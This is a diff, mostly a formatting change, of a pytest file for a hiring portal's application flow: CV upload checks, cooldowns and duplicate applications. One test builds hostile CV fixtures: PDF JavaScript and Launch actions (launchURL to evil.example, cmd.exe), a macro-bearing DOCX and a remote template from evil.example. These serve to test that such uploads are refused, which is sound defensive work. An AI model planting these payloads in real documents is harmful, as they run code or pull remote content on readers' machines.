@@ -1,4 +1,5 @@
 """Applying: CV upload checks, short answers, cooldown after a rejection, duplicates."""
+
 from __future__ import annotations
 
 import io
@@ -16,8 +17,11 @@ from portal.timeutil import utcnow
 from tests.helpers import PDF, field_error, login, outbox, race
 from tests.storage.documents import MACRO_MAIN, docx, pdf, relationship
 
-ANSWERS = {"motivation": "I want to build fair hiring.", "proud_of": "A migration with zero downtime.",
-           "link": "https://example.com/me"}
+ANSWERS = {
+    "motivation": "I want to build fair hiring.",
+    "proud_of": "A migration with zero downtime.",
+    "link": "https://example.com/me",
+}
 
 
 def _stored_files(app) -> list:
@@ -76,15 +80,20 @@ def test_docx_cv_is_accepted(app, candidate_client, factory):
     assert db.session.scalars(select(Application)).one().cv_file.name == "My CV.docx"
 
 
-@pytest.mark.parametrize("content, filename, message", [
-    (b"just text, not a pdf", "cv.pdf", "not a PDF"),
-    (b"%PDF-1.4 cut off half way", "cv.pdf", "incomplete or damaged"),
-    (PDF, "cv.exe", "PDF or Word"),
-    (PDF, "cv", "PDF or Word"),
-    (b"PK\x03\x04 broken zip", "cv.docx", "damaged"),
-    (b"", "cv.pdf", "empty"),
-])
-def test_bad_cv_is_refused_with_a_message_and_leaves_nothing(app, candidate_client, factory, content, filename, message):
+@pytest.mark.parametrize(
+    "content, filename, message",
+    [
+        (b"just text, not a pdf", "cv.pdf", "not a PDF"),
+        (b"%PDF-1.4 cut off half way", "cv.pdf", "incomplete or damaged"),
+        (PDF, "cv.exe", "PDF or Word"),
+        (PDF, "cv", "PDF or Word"),
+        (b"PK\x03\x04 broken zip", "cv.docx", "damaged"),
+        (b"", "cv.pdf", "empty"),
+    ],
+)
+def test_bad_cv_is_refused_with_a_message_and_leaves_nothing(
+    app, candidate_client, factory, content, filename, message
+):
     position = factory.position()
     response = _apply(candidate_client, position, content, filename)
     page = response.get_data(as_text=True)
@@ -117,16 +126,31 @@ def test_cv_over_10_mb_is_refused(app, candidate_client, factory):
     assert _applications() == 0 and _stored_files(app) == []
 
 
-@pytest.mark.parametrize("content, filename, message", [
-    (pdf(catalog=b"/OpenAction<</S/JavaScript/JS(app.launchURL('https://evil.example'))>>"), "cv.pdf",
-     "The PDF contains scripts"),
-    (pdf(catalog=b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "cv.pdf", "starts a program"),
-    (docx(main=MACRO_MAIN, parts={"word/vbaProject.bin": b"x"}), "cv.docx", "The document contains macros"),
-    (docx(settings_relationships=[relationship("rId1", "attachedTemplate", "https://evil.example/t.dotm",
-                                               external=True)]), "cv.docx", "loads content from elsewhere"),
-], ids=["pdf-javascript", "pdf-launch", "docx-macro", "docx-remote-template"])
+@pytest.mark.parametrize(
+    "content, filename, message",
+    [
+        (
+            pdf(catalog=b"/OpenAction<</S/JavaScript/JS(app.launchURL('https://evil.example'))>>"),
+            "cv.pdf",
+            "The PDF contains scripts",
+        ),
+        (pdf(catalog=b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "cv.pdf", "starts a program"),
+        (docx(main=MACRO_MAIN, parts={"word/vbaProject.bin": b"x"}), "cv.docx", "The document contains macros"),
+        (
+            docx(
+                settings_relationships=[
+                    relationship("rId1", "attachedTemplate", "https://evil.example/t.dotm", external=True)
+                ]
+            ),
+            "cv.docx",
+            "loads content from elsewhere",
+        ),
+    ],
+    ids=["pdf-javascript", "pdf-launch", "docx-macro", "docx-remote-template"],
+)
 def test_cv_with_active_content_is_refused_next_to_the_field_and_leaves_nothing(
-        app, candidate_client, factory, content, filename, message):
+    app, candidate_client, factory, content, filename, message
+):
     response = _apply(candidate_client, factory.position(), content, filename)
     page = response.get_data(as_text=True)
     assert response.status_code == 422
@@ -141,8 +165,11 @@ def test_the_cv_is_kept_as_a_stored_file_of_the_candidate(app, candidate_client,
     content = docx("Ada Lovelace")
     assert _apply(candidate_client, factory.position(), content, "Ada CV.docx").status_code == 302
     cv = db.session.scalars(select(Application)).one().cv_file
-    assert (cv.owner_type, cv.owner_id, cv.created_by_id) == ("users", candidate_client.candidate.id,
-                                                            candidate_client.candidate.id)
+    assert (cv.owner_type, cv.owner_id, cv.created_by_id) == (
+        "users",
+        candidate_client.candidate.id,
+        candidate_client.candidate.id,
+    )
     assert (cv.kind, cv.name, cv.original_name, cv.size) == ("cv", "Ada CV.docx", "Ada CV.docx", len(content))
     assert cv.sha256 == hashlib.sha256(content).hexdigest()
     assert [p.read_bytes() for p in _stored_files(app)] == [content]
@@ -151,8 +178,12 @@ def test_the_cv_is_kept_as_a_stored_file_of_the_candidate(app, candidate_client,
 def test_a_request_too_large_for_a_cv_names_the_cv_limit_not_the_largest(make_app, factory):
     from portal.storage.kinds import MB, UploadKind
 
-    app = make_app(UPLOAD_KINDS={"cv": UploadKind("CV", ("pdf", "docx"), 1 * MB),
-                                 "bigger": UploadKind("Submission", ("pdf",), 5 * MB)})
+    app = make_app(
+        UPLOAD_KINDS={
+            "cv": UploadKind("CV", ("pdf", "docx"), 1 * MB),
+            "bigger": UploadKind("Submission", ("pdf",), 5 * MB),
+        }
+    )
     assert app.config["MAX_CONTENT_LENGTH"] == 15 * MB
     with app.app_context():
         candidate, position = factory.candidate(), factory.position()
@@ -197,8 +228,10 @@ def test_cooldown_ends_on_the_reapply_date(app, candidate_client, factory):
     hiring.move(application.id, process.Action.REJECT, recruiter, feedback="Not this time.")
     application = db.session.get(Application, application.id)
     assert hiring.cooldown_until(candidate_client.candidate, position, today=application.reapply_after) is None
-    assert hiring.cooldown_until(candidate_client.candidate, position,
-                                 today=application.reapply_after - timedelta(days=1)) == application.reapply_after
+    assert (
+        hiring.cooldown_until(candidate_client.candidate, position, today=application.reapply_after - timedelta(days=1))
+        == application.reapply_after
+    )
     application.reapply_after = utcnow().date()
     db.session.commit()
     assert _apply(candidate_client, position).status_code == 302
@@ -251,6 +284,7 @@ def test_simultaneous_applications_create_only_one(app, factory):
     candidate, position = factory.candidate(), factory.position()
     candidate_id, position_id = candidate.id, position.id
     barrier = threading.Barrier(4)
+
     def submit():
         from portal.accounts.models import User
         from portal.hiring.models import Position
